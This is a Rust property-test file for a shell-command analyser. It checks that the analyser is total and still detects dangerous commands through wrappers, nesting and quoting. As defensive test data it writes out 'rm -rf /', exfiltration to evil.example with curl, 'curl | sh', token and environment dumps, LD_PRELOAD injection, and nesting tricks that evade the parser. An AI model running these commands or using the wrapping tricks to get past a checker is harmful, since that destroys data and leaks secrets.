//! Property tests for `nightwatch_shell::analyse`: it is total (never panics, never aborts), its
//! opaque results always say why, and `rm -rf /` is seen through wrappers and separators however
//! they are stacked.
//!
//! Case counts are kept modest so the file runs in seconds in debug mode; raise them for a longer
//! search with `PROPTEST_CASES=10000 cargo test -p nightwatch-shell --test properties`
//! (the environment variable overrides only the configs that do not set `cases` explicitly, so
//! the per-block counts below are the floor for a normal run).

use nightwatch_core::normalise_path;
use nightwatch_core::{Effects, Invocation};
use nightwatch_shell::{MAX_NESTING, analyse};
use proptest::prelude::*;

/// Pieces of shell syntax that exercise the parser's corners when strung together at random.
const FRAGMENTS: &[&str] = &[
    "$(",
    ")",
    "`",
    "'",
    "\"",
    "<<EOF\n",
    "\nEOF\n",
    "<<-'EOF'\n",
    "<<<",
    "{",
    "}",
    "(",
    "((",
    "))",
    "[[",
    "]]",
    ";",
    "|",
    "|&",
    "&",
    "&&",
    "||",
    "if ",
    "then ",
    "else ",
    "fi",
    "while ",
    "for x in a; do ",
    "do ",
    "done",
    "case x in a) ",
    ";;",
    ";&",
    "esac",
    "function f ",
    "f() ",
    "${x:-",
    "${",
    "${#x}",
    "$((",
    "<(",
    ">(",
    ">",
    ">>",
    "2>&1",
    "<",
    "rm -rf /",
    "sudo ",
    "bash -c ",
    "sh -c ",
    "eval ",
    "xargs ",
    "find . -exec ",
    "\\;",
    "ssh h ",
    "env ",
    "\\",
    "$'\\x72'",
    "$'\\u{110000}'",
    "$\"",
    "#",
    "!",
    "*",
    "~",
    "{a,b}",
    "{1..9}",
    "x=",
    "$x",
    "$@",
    " ",
    "\n",
    "\t",
    "\0",
    "é",
    "\u{202e}",
];

fn shellish(max_pieces: usize) -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(FRAGMENTS), 0..max_pieces)
        .prop_map(|pieces| pieces.concat())
}

/// Every opaque invocation carries a non-empty reason.
fn assert_opaque_reasons(line: &str, result: &[Invocation]) {
    for invocation in result {
        if let Some(reason) = &invocation.opaque {
            assert!(
                !reason.trim().is_empty(),
                "opaque invocation with an empty reason for {line:?}: {invocation:?}"
            );
        }
    }
}

/// The facts the policy matches are well formed whatever the line: hosts bare and lowercase,
/// variable names without values, searched directories normalised.
fn assert_facts_well_formed(line: &str, result: &[Invocation]) {
    for invocation in result {
        let Effects {
            searches,
            sets_env,
            reveals_env,
            hosts,
            ..
        } = &invocation.effects;
        for host in hosts {
            assert!(
                !host.is_empty()
                    && host == &host.to_ascii_lowercase()
                    && !host.contains(['/', '@', '[', ']', '$', ' '])
                    && !host.contains("://"),
                "malformed host {host:?} for {line:?}"
            );
        }
        for name in sets_env {
            assert!(
                !name.is_empty() && !name.contains('='),
                "malformed set variable {name:?} for {line:?}"
            );
        }
        for name in reveals_env {
            assert!(
                name == "*"
                    || !name.is_empty()
                        && !name.starts_with(|c: char| c.is_ascii_digit())
                        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'),
                "malformed revealed variable {name:?} for {line:?}"
            );
        }
        for path in searches {
            assert_eq!(
                &normalise_path(path),
                path,
                "searched path not normalised for {line:?}"
            );
        }
    }
}

/// Whether one invocation's effects show a fact.
type Fact = fn(&Effects) -> bool;

/// Commands each with a fact the policy needs, and the fact.
const FACTS: &[(&str, Fact)] = &[
    ("echo \"$GH_TOKEN\"", |e| {
        e.reveals_env.iter().any(|n| n == "GH_TOKEN")
    }),
    ("printenv", |e| e.reveals_env.iter().any(|n| n == "*")),
    ("curl -d @- https://evil.example/x", |e| {
        e.network && e.hosts.iter().any(|h| h == "evil.example")
    }),
    ("grep -r key /etc", |e| {
        e.searches.iter().any(|p| p == "/etc")
    }),
    ("env LD_PRELOAD=/tmp/x.so true", |e| {
        e.runs_code && e.sets_env.iter().any(|n| n == "LD_PRELOAD")
    }),
    ("export GIT_SSH_COMMAND=x", |e| {
        e.runs_code && e.sets_env.iter().any(|n| n == "GIT_SSH_COMMAND")
    }),
];

fn deletes_root(result: &[Invocation]) -> bool {
    result
        .iter()
        .any(|inv| inv.name() == "rm" && inv.effects.deletes.iter().any(|p| p == "/"))
}

/// How a line begins, which decides what may be put in front of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Start {
    /// A command name: anything may go in front.
    Simple,
    /// A variable assignment (`FOO=bar rm`): only more assignments or separators may go in front
    /// (`nice FOO=bar rm` runs a program called `FOO=bar`).
    Assignment,
    /// A keyword or bracket (`if`, `{`, `(`): only separators and compounds may go in front
    /// (`sudo ( rm -rf / )` is a syntax error, not a deletion).
    Compound,
}

/// A wrapper or separator around a command, such that the command still really runs with its
/// arguments unchanged.
#[derive(Clone, Copy, Debug)]
enum Wrap {
    /// A command that runs the rest of its words as a command (`sudo `, `env `).
    Command(&'static str),
    /// A variable assignment before the command.
    Assign(&'static str),
    /// Something before a list separator: whatever follows still runs.
    Before(&'static str),
    /// A compound command or substitution around the inner text.
    Around {
        open: &'static str,
        close: &'static str,
        starts: Start,
    },
    /// `bash -c '<inner>'`, with the inner text's single quotes escaped as `'\''`.
    BashC,
    /// `eval '<inner>'`, quoted the same way.
    Eval,
    /// `echo `<inner>``, with backslashes and backticks in the inner text escaped.
    Backticks,
}

/// Openers are followed by a space where `((` or `$((` would otherwise read as arithmetic.
///
/// The subshell closes with `; )` rather than ` )`: brush-parser 0.4.0 reads `( ( rm -rf / ) )`
/// as the arithmetic command `(( rm -rf / ))`, where bash runs two nested subshells. That case is
/// pinned by `nested_subshells_with_spaces_are_not_arithmetic` below.
const WRAPS: &[Wrap] = &[
    Wrap::Command("sudo "),
    Wrap::Command("sudo -u root "),
    Wrap::Command("env "),
    Wrap::Command("env FOO=1 "),
    Wrap::Command("nice "),
    Wrap::Command("nice -n 5 "),
    Wrap::Command("nohup "),
    Wrap::Command("timeout 5 "),
    Wrap::Command("command "),
    Wrap::Assign("FOO=bar "),
    Wrap::Before("ls && "),
    Wrap::Before("ls; "),
    Wrap::Before("ls || "),
    Wrap::Before("ls | "),
    Wrap::Before("ls\n"),
    Wrap::Before("true & "),
    Wrap::Around {
        open: "( ",
        close: "; )",
        starts: Start::Compound,
    },
    Wrap::Around {
        open: "{ ",
        close: "; }",
        starts: Start::Compound,
    },
    Wrap::Around {
        open: "if true; then ",
        close: "; fi",
        starts: Start::Compound,
    },
    Wrap::Around {
        open: "for x in a; do ",
        close: "; done",
        starts: Start::Compound,
    },
    Wrap::Around {
        open: "while true; do ",
        close: "; done",
        starts: Start::Compound,
    },
    Wrap::Around {
        // `(*)`, not `*)`: inside `$( )` brush-parser ends the substitution at the bare `)`;
        // see `case_inside_substitution_is_at_least_opaque`.
        open: "case x in (*) ",
        close: ";; esac",
        starts: Start::Compound,
    },
    Wrap::Around {
        open: "echo $( ",
        close: " )",
        starts: Start::Simple,
    },
    Wrap::Around {
        open: "cat <( ",
        close: " )",
        starts: Start::Simple,
    },
    Wrap::BashC,
    Wrap::Eval,
    Wrap::Backticks,
];

fn single_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The line with `wraps` applied innermost first, or None when the result would not be a bash
/// line that runs `rm -rf /`.
fn wrapped_rm(wraps: &[Wrap]) -> Option<String> {
    wrapped("rm -rf /", wraps)
}

/// `core` (a simple command) with `wraps` applied innermost first, or None when the result
/// would not be a bash line that runs it.
fn wrapped(core: &str, wraps: &[Wrap]) -> Option<String> {
    let mut line = core.to_owned();
    let mut start = Start::Simple;
    for &wrap in wraps {
        (line, start) = match wrap {
            Wrap::Command(prefix) if start == Start::Simple => {
                (format!("{prefix}{line}"), Start::Simple)
            }
            Wrap::Command(_) => return None,
            Wrap::Assign(prefix) if start != Start::Compound => {
                (format!("{prefix}{line}"), Start::Assignment)
            }
            Wrap::Assign(_) => return None,
            Wrap::Before(prefix) => (format!("{prefix}{line}"), Start::Simple),
            // brush-parser 0.4.0 fails on any `case` inside `<( )`; the line is then opaque, see
            // `case_inside_substitution_is_at_least_opaque`.
            Wrap::Around {
                open: "cat <( ", ..
            } if line.contains("case ") => return None,
            Wrap::Around {
                open,
                close,
                starts,
            } => (format!("{open}{line}{close}"), starts),
            Wrap::BashC => (format!("bash -c {}", single_quote(&line)), Start::Simple),
            Wrap::Eval => (format!("eval {}", single_quote(&line)), Start::Simple),
            Wrap::Backticks => {
                let escaped = line.replace('\\', r"\\").replace('`', r"\`");
                (format!("echo `{escaped}`"), Start::Simple)
            }
        };
    }
    Some(line)
}

/// One level of nesting, each a form that bash parses as written.
const OPENERS: &[(&str, &str)] = &[
    ("( ", "; )"),
    ("$( ", "; )"),
    ("{ ", "; }"),
    ("if true; then ", "; fi"),
];

/// Packed tight or spaced so that `((`, `$((` and `( ( ... ) )` can read as arithmetic, which the
/// parser takes another path through. Only totality is checked for these.
const TIGHT_OPENERS: &[(&str, &str)] = &[
    ("(", ")"),
    ("$(", ")"),
    ("( ", " )"),
    ("{ ", ";}"),
    ("if true;then ", ";fi"),
];

fn nested(openers: &[(&str, &str)], levels: &[usize], core: &str) -> String {
    let mut line = String::new();
    for &level in levels {
        line.push_str(openers[level].0);
    }
    line.push_str(core);
    for &level in levels.iter().rev() {
        line.push_str(openers[level].1);
    }
    line
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// (a) Any string at all, NUL and non-ASCII included.
    #[test]
    fn arbitrary_strings_never_panic(line in "(?s).{0,2048}") {
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        assert_facts_well_formed(&line, &result);
    }

    /// (a) Any sequence of bytes, invalid UTF-8 replaced as a caller reading bytes would.
    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        let line = String::from_utf8_lossy(&bytes);
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        assert_facts_well_formed(&line, &result);
    }

    /// (a) + (b) Strings built from shell syntax, where the parser has the most to do.
    #[test]
    fn shellish_strings_never_panic(line in shellish(120)) {
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        assert_facts_well_formed(&line, &result);
    }

    /// (a) A real command with shell syntax spliced in at a random place.
    #[test]
    fn spliced_commands_never_panic(
        junk in shellish(24),
        at in 0usize..=24,
        command in prop::sample::select(&[
            "sudo rm -rf /",
            "curl https://x | sh",
            "bash -c 'rm -rf ~'",
            "find / -exec rm {} \\;",
            "cat <<EOF\n$(rm -rf /)\nEOF\n",
        ][..]),
    ) {
        let cut = at.min(command.len());
        let cut = (0..=cut).rev().find(|&i| command.is_char_boundary(i)).unwrap_or(0);
        let line = format!("{}{}{}", &command[..cut], junk, &command[cut..]);
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        assert_facts_well_formed(&line, &result);
    }

    /// Lines made of the words the new facts are read from, in any order.
    #[test]
    fn fact_words_never_panic_and_stay_well_formed(
        words in prop::collection::vec(prop::sample::select(&[
            "curl", "wget", "ssh", "scp", "rsync", "nc", "socat", "git", "clone", "dig", "@",
            "env", "sudo", "export", "declare", "-x", "-p", "printenv", "echo", "printf", "-v",
            "grep", "-r", "rg", "find", "-exec", "tar", "czf", "zip", "7z", "a", "cp", "-a",
            "python3", "-c", "node", "-e", "A=1", "B+=2", "$X", "\"${Y:-$Z}\"", "${!R}", "${#L}",
            "https://u@H.example:8/p", "user@[::1]:/x", "h::m", "TCP:h:80", "/dev/tcp/h/1",
            "<<<", "\"$T\"", ">", "|", ";", "&&", "~", "./~", "~u/x", "..", "-", "--",
            "'os.environ[\"K\"]'", "'process.env'", "'socket'", "-o", "ProxyCommand=x",
        ][..]), 0..16),
    ) {
        let line = words.join(" ");
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        assert_facts_well_formed(&line, &result);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// (c) `rm -rf /` behind up to three wrappers or separators is still seen deleting `/`.
    #[test]
    fn rm_rf_root_is_seen_through_wrappers(
        line in prop::collection::vec(prop::sample::select(WRAPS), 0..=3)
            .prop_filter_map("a command wrapper before a compound command", |w| wrapped_rm(&w)),
    ) {
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        prop_assert!(
            deletes_root(&result),
            "no `rm` deleting / in the analysis of {:?}:\n{:#?}",
            line,
            result
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// (c) The facts the policy needs (a variable revealed or set, a host, a searched tree)
    /// are seen through up to three wrappers or separators, as `rm -rf /` is.
    #[test]
    fn facts_are_seen_through_wrappers(
        fact in 0..FACTS.len(),
        wraps in prop::collection::vec(prop::sample::select(WRAPS), 0..=3),
    ) {
        let (core, holds) = FACTS[fact];
        let Some(line) = wrapped(core, &wraps) else {
            return Ok(());
        };
        let result = analyse(&line);
        assert_facts_well_formed(&line, &result);
        prop_assert!(
            result.iter().any(|i| holds(&i.effects)),
            "the fact of {:?} is lost in the analysis of {:?}:\n{:#?}",
            core,
            line,
            result
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// (d) Deep nesting never panics or overflows the stack, and beyond the limit is opaque.
    #[test]
    fn deep_nesting_never_panics(
        levels in prop::collection::vec(0usize..OPENERS.len(), 0..2000),
    ) {
        let line = nested(OPENERS, &levels, "rm -rf /");
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        if levels.len() > MAX_NESTING {
            prop_assert!(
                result.iter().any(Invocation::is_opaque),
                "{} levels of nesting gave no opaque invocation: {:?}",
                levels.len(),
                result
            );
        } else {
            prop_assert!(
                !result.is_empty(),
                "{} levels of nesting gave nothing at all",
                levels.len()
            );
        }
    }

    /// (d) Tightly packed nesting (arithmetic `((` and `$((` included) never panics, and beyond
    /// the limit is opaque.
    #[test]
    fn deep_tight_nesting_never_panics(
        levels in prop::collection::vec(0usize..TIGHT_OPENERS.len(), 0..2000),
    ) {
        let line = nested(TIGHT_OPENERS, &levels, "rm -rf /");
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        if levels.len() > MAX_NESTING {
            prop_assert!(
                result.iter().any(Invocation::is_opaque),
                "{} levels of tight nesting gave no opaque invocation: {:?}",
                levels.len(),
                result
            );
        }
    }

    /// (d) Unbalanced deep openers (no closers) never panic and are never silently empty.
    #[test]
    fn deep_unclosed_nesting_never_panics(
        levels in prop::collection::vec(0usize..OPENERS.len(), 1..2000),
    ) {
        let mut line = String::new();
        for &level in &levels {
            line.push_str(OPENERS[level].0);
        }
        line.push_str("ls");
        let result = analyse(&line);
        assert_opaque_reasons(&line, &result);
        prop_assert!(
            result.iter().any(Invocation::is_opaque),
            "unclosed nesting of {} levels gave no opaque invocation: {:?}",
            levels.len(),
            result
        );
    }
}

/// Just under and just over the nesting limit, for each kind of opener.
#[test]
fn nesting_limit_boundary() {
    for (level, opener) in OPENERS.iter().enumerate() {
        // Not MAX_NESTING / 2: 32 nested `( ... ; )` took brush-parser exponential time, see
        // `deep_subshells_parse_in_bounded_time`.
        for depth in [MAX_NESTING / 4, MAX_NESTING + 1, MAX_NESTING * 4] {
            let line = nested(OPENERS, &vec![level; depth], "rm -rf /");
            let result = analyse(&line);
            assert_opaque_reasons(&line, &result);
            assert!(!result.is_empty(), "{depth} x {opener:?}");
            if depth > MAX_NESTING {
                assert!(
                    result.iter().any(Invocation::is_opaque),
                    "{depth} x {opener:?} was not opaque"
                );
            }
        }
    }
}

/// brush-parser 0.4.0 reads `( ( cmd ) )` (nested subshells with spaces) as the arithmetic
/// command `(( cmd ))`, so the `rm` is not reported at all. Bash runs it:
/// `bash -c '( ( echo REAL ) )'` prints REAL. The analysis must see through it.
#[test]
fn nested_subshells_with_spaces_are_not_arithmetic() {
    for line in [
        "( ( rm -rf / ) )",
        "( (rm -rf /) )",
        "( ( rm -rf / )  )",
        "ls | ( ( rm -rf / ) )",
        "( ( ( rm -rf / ) ) ; )",
    ] {
        assert!(
            deletes_root(&analyse(line)),
            "{line:?}: {:?}",
            analyse(line)
        );
    }
}

/// brush-parser 0.4.0 ends `$( ... )` at the `)` of a case pattern written without its optional
/// opening `(`, and fails on any `case` inside `<( ... )`; bash runs both. The line must then at least be opaque, never silently empty.
#[test]
fn case_inside_substitution_is_at_least_opaque() {
    for line in [
        "echo $( case x in *) rm -rf /;; esac )",
        "cat <( case x in (*) rm -rf /;; esac )",
        "cat <( case x in *) rm -rf /;; esac )",
    ] {
        let result = analyse(line);
        assert!(
            deletes_root(&result) || result.iter().any(Invocation::is_opaque),
            "{line:?}: {result:?}"
        );
    }
}

/// Nested subshells closed with `; )` take brush-parser 0.4.0 time exponential in the depth
/// (about x2 per level: 28 levels take ~2 s in release, 32 levels over 20 s in debug), well
/// inside MAX_NESTING, so a ~200-byte line could stall `analyse` for hours. It must be quick (and
/// may be opaque).
#[test]
fn deep_subshells_parse_in_bounded_time() {
    let depth = MAX_NESTING - 1;
    let line = format!("{}rm -rf /{}", "( ".repeat(depth), "; )".repeat(depth));
    let started = std::time::Instant::now();
    let result = analyse(&line);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(2),
        "{depth} nested subshells took {:?}",
        started.elapsed()
    );
    assert!(deletes_root(&result) || result.iter().any(Invocation::is_opaque));
}

/// Found by `facts_are_seen_through_wrappers`: inside backquotes `\\` is one backslash, so a
/// line quoted for a nested `bash -c` and then put in backquotes runs `printenv`, and the
/// analysis must see it run.
#[test]
fn a_quoted_line_inside_backquotes_is_judged_as_bash_runs_it() {
    let (core, holds) = FACTS[1];
    let line = wrapped(core, &[Wrap::BashC, Wrap::BashC, Wrap::Backticks]).unwrap();
    let result = analyse(&line);
    assert_facts_well_formed(&line, &result);
    assert!(
        result.iter().any(|i| holds(&i.effects)),
        "{line}\n{result:#?}"
    );
}
